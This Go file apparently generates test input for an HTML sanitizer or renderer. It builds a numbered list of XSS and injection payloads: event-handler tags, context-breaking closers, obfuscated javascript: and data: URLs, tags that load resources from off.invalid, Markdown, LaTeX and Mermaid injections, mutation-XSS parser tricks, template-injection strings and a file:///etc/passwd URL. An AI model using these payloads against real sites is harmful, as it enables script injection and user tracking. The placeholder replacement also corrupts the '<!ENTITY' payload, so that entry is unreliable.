package hostile

import (
	"fmt"
	"strings"
)

// Each payload would open a dialog or ask the host off.invalid, both with its own number N, wherever a place lets it.
// Those that differ in one part only are made from lists; the rest is written out.
var (
	carriers = []string{"<img src=x %s>", "<svg %s>", "<details open %s>", "<input autofocus %s>", "<video src=x %s>",
		"<body %s>",
		"<iframe src=./ %s>", "<marquee %s>", "<a href=# tabindex=1 %s>x</a>", "<math %s>"}
	events = []string{"onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart",
		"onpointerenter", "onstart", "onloadstart"}

	closers = []string{`"`, `'`, "`", `">`, `'>`, `-->`, `]]>`, `</title>`, `</script>`, `</style>`, `</textarea>`,
		`</code></pre>`,
		`</p></div></main>`, `</svg>`, `</summary></details>`, `</td></tr></table>`, `&quot;>`, `\">`, `%22%3E`, `}}`}
	cores = []string{"<script>alert(N)</script>", "<img src=x onerror=alert(N)>", " onload=alert(N) x=",
		" autofocus tabindex=1 onfocus=alert(N) x=", "<svg/onload=alert(N)>"}

	addresses = []string{"javascript:alert(N)", "JaVaScRiPt:alert(N)", " javascript:alert(N)",
		"javascript&colon;alert(N)", "javascript&#58;alert(N)",
		"&#106;avascript:alert(N)", "&#x6A;avascript:alert(N)", "java&#9;script:alert(N)", "java&#10;script:alert(N)",
		"java\tscript:alert(N)", "\x01javascript:alert(N)",
		"java%0ascript:alert(N)", "javascript%3Aalert(N)", "javascript://%0aalert(N)",
		"javascript:/*--></title></style></textarea></script>*/alert(N)",
		"vbscript:alert(N)", "data:text/html,<script>alert(N)</script>",
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#N",
		"data:image/svg+xml,<svg onload=alert(N)>",
		"data:application/xhtml+xml,<x onload=alert(N)/>", "blob:http://off.invalid/N", "feed:javascript:alert(N)",
		"view-source:javascript:alert(N)", "jar:javascript:alert(N)!/",
		"file:///etc/passwd?N", "//off.invalid/N", `\\off.invalid\N`, `/\off.invalid/N`, "https:off.invalid/N",
		"http://off.invalid/N.png", "//off.invalid/N.svg#x", "..//off.invalid/N",
		"javascript\u003aalert(N)", "ｊavascript:alert(N)", "javascript:\u2028alert(N)", "x:javascript:alert(N)",
		"mailto:javascript:alert(N)", "tel:javascript:alert(N)"}

	loads = []string{"<link rel=stylesheet href=//off.invalid/N>", "<style>@import url(//off.invalid/N)</style>",
		"<style>*{background:url(//off.invalid/N)}</style>", "<base href=//off.invalid/N/>",
		"<meta http-equiv=refresh content=0;url=//off.invalid/N>", "<object data=//off.invalid/N>",
		"<embed src=//off.invalid/N>", "<img src=//off.invalid/N>", "<img src=http://off.invalid/N.png>",
		"<img srcset=//off.invalid/N>", "<picture><source srcset=//off.invalid/N><img src=x></picture>",
		"<video poster=//off.invalid/N>", "<video src=//off.invalid/N autoplay>", "<audio src=//off.invalid/N " +
			"autoplay>",
		"<video><track src=//off.invalid/N default></video>", "<input type=image src=//off.invalid/N>",
		"<form action=//off.invalid/N><button autofocus>x</button></form>", "<a ping=//off.invalid/N href=#>x</a>",
		"<div style=background:url(//off.invalid/N)>x</div>", "<p style='list-style:url(//off.invalid/N)'>x",
		"<svg><image href=//off.invalid/N /></svg>", "<svg><use href=//off.invalid/N#x /></svg>",
		"<svg><feImage href=//off.invalid/N /></svg>",
		"<iframe src=//off.invalid/N></iframe>", "<iframe srcdoc='<script>alert(N)</script>'></iframe>",
		"<frameset><frame src=//off.invalid/N></frameset>", "<body background=//off.invalid/N>",
		"<table background=//off.invalid/N><td background=//off.invalid/N>x</table>",
		"<link rel=preconnect href=//off.invalid/N>", "<link rel=dns-prefetch href=//off.invalid/N>",
		"<link rel=prefetch href=//off.invalid/N>", "<link rel=modulepreload href=//off.invalid/N>",
		"<link rel=icon href=//off.invalid/N>", "<link rel=manifest href=//off.invalid/N>",
		"<script src=//off.invalid/N></script>", "<script type=module>import '//off.invalid/N'</script>",
		"<script type=importmap>{\"imports\":{\"x\":\"//off.invalid/N\"}}</script>",
		"<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//off.invalid/N\"]}]}</script>",
		"![x](https://off.invalid/N.png)", "![x](//off.invalid/N.png \"N\")",
		"[![x](//off.invalid/N)](//off.invalid/N)",
		"![[https://off.invalid/N.png]]", "![x](x.svg#N<script>alert(N)</script>)",
		"$\\href{javascript:alert(N)}{x}$", "$\\includegraphics{//off.invalid/N}$", "$\\url{javascript:alert(N)}$",
		"$\\htmlData{x=N}{y}\\class{\"onclick=alert(N)}{x}$", "$\\text{<img src=x onerror=alert(N)>}$",
		"$\\unicode{<svg onload=alert(N)>}$",
		"click A \"javascript:alert(N)\"", "%%{init: {\"securityLevel\": \"loose\", \"theme\": \"</style><img " +
			"src=x onerror=alert(N)>\"}}%%", "A[\"<img src=x onerror=alert(N)>\"] --> B"}

	confusions = []string{"<noscript><p title=\"</noscript><img src=x onerror=alert(N)>\">",
		"<svg></p><style><a id=\"</style><img src=1 onerror=alert(N)>\">",
		"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(N)&gt;\">",
		"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(N)>",
		"<math><annotation-xml encoding=text/html><script>alert(N)</script></annotation-xml></math>",
		"<svg><foreignObject><script>alert(N)</script></foreignObject></svg>", "<svg><script>alert(N)</script></svg>",
		"<svg><animate onbegin=alert(N) attributeName=x dur=1s>", "<svg><a><animate attributeName=href " +
			"values=javascript:alert(N) /><text>x</text></a></svg>", "<svg><set attributeName=onmouseover to=alert(N)>",
		"<template><script>alert(N)</script></template>", "<template " +
			"shadowrootmode=open><script>alert(N)</script></template>",
		"<select><option><style></option></select><script>alert(N)</script></style>",
		"<xmp><p title=\"</xmp><svg/onload=alert(N)>\">",
		"<textarea><p title=\"</textarea><svg/onload=alert(N)>\">", "<title><p " +
			"title=\"</title><svg/onload=alert(N)>\">", "<plaintext><script>alert(N)</script>",
		"<listing>&lt;img src=x onerror=alert(N)&gt;</listing>",
		"<![CDATA[><script>alert(N)</script>]]>", "<?xml-stylesheet " +
			"href=\"javascript:alert(N)\"?><script>alert(N)</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM " +
			"\"//off.invalid/N\">]>&y;", "<!--><script>alert(N)</script>-->", "<!-- --!><script>alert(N)</script>",
		"<scr<script>ipt>alert(N)</scr</script>ipt>", "<<script>alert(N)//<</script>", "<script\x0c>alert(N)</script>",
		"<script/x>alert(N)</script\t>", "<img/src=x\x0conerror=alert(N)>", "<img src=x onerror\x0b=alert(N)>",
		"<IMG SRC=x OnErRoR=alert(N)>",
		"<img src='x\\' onerror='alert(N)'>", "<img \"\"\"><script>alert(N)</script>\">",
		"<a href=\"java&#x0A;script:alert(N)\">x</a>",
		"<a href=' &#14; javascript:alert(N)'>x</a>", "<a href=\"x\" href=\"javascript:alert(N)\">x</a>",
		"<a href=javascript&colon;alert&lpar;N&rpar;>x</a>",
		"<form id=x></form><button form=x formaction=javascript:alert(N)>x", "<isindex " +
			"action=javascript:alert(N) type=image>", "<keygen autofocus onfocus=alert(N)>",
		"<a name=ds-menu id=__proto__>N</a>", "<form name=body><input name=querySelector value=N></form>",
		"<img name=currentScript id=cookie src=x alt=N>", "{{constructor.constructor('alert(N)')()}}",
		"${alert(N)}", "#{alert(N)}", "<%= alert(N) %>", "{{template \"top\" .}}N", "\u202e>)N(trela=rorreno " +
			"x=crs gmi<", "\ufeff<script>alert(N)</script>",
		"＜script＞alert(N)＜/script＞", "+ADw-script+AD4-alert(N)+ADw-/script+AD4-", "%3Cscript%3Ealert(N)%3C/script%3E",
		"&lt;script&gt;alert(N)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(N)",
		"\\u003cscript\\u003ealert(N)\\u003c/script\\u003e",
		"\\x3cscript\\x3ealert(N)"}
)

// payloads returns all of them, each once, with its number for N.
func payloads() []string {
	var all []string
	for _, c := range carriers {
		for _, e := range events {
			all = append(all, fmt.Sprintf(c, e+"=alert(N)"))
		}
	}
	for _, c := range closers {
		for _, x := range cores {
			all = append(all, c+x)
		}
	}
	for _, more := range [][]string{addresses, loads, confusions} {
		all = append(all, more...)
	}
	for i := range all {
		all[i] = strings.ReplaceAll(all[i], "N", fmt.Sprint(1000+i))
	}
	return all
}
